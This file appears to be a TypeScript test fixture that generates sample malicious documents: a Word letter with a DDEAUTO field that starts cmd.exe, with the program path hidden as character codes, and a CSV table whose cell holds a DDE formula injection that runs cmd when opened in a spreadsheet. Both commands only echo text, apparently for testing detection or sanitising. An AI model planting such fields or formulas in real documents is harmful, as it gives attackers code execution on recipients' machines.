// Documents: a letter whose field starts a program, under names that hide it, and a table that does so when a spreadsheet opens it.
import { docxOf, field, paragraph, plain } from '../../test/documents/word.ts'

const codes = (text: string) => [...text].map((c) => c.charCodeAt(0)).join(' ')

export function documentExamples(): Readonly<Record<string, Buffer>> {
  const program = field(`QUOTE ${codes('C:\\Windows\\System32\\cmd.exe')}`)
  const letter = [
    paragraph(plain('Dear Ana, please update the figures when you are asked.')),
    paragraph(
      field('SET x ', program) +
        field('DDEAUTO ', field('REF x'), ' "/k echo from a document"'),
    ),
    paragraph(plain('Page ') + field('PAGE')),
  ]
  const table = [
    'item,cost,note',
    'paper,12,"call +49 30 1234"',
    `"=cmd|'/c echo from a table'!A0",7,`,
  ]
  return {
    'documents/letter.docx': docxOf(letter.join('')),
    'documents/costs.csv': Buffer.from(`${table.join('\r\n')}\r\n`),
  }
}
